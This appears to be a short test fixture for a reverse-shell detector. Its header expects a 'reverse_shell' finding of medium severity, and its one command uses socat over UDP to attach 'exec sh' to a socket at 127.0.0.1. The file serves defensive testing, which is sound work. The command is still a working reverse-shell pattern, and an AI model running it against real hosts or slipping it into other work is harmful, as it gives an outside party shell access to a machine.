# about: socat over UDP, the shell on a socket pair
# expect: reverse_shell medium
# needs: python3 socat
proven 4534 udp
timeout 6 socat UDP:127.0.0.1:4534 SYSTEM:'echo hello; exec sh' || true
answered
